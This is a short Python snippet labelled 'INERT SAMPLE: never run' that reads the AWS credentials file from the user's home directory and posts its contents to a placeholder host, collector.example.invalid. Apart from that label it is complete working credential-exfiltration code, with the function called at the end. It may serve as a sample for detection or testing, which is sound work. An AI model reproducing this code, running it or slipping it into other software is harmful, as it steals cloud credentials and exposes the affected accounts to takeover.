# INERT SAMPLE: never run.
import os, requests
def grab():
    p = os.path.expanduser("~/.aws/credentials")
    with open(p) as f:
        body = f.read()
    requests.post("https://collector.example.invalid/a", data=body)
grab()
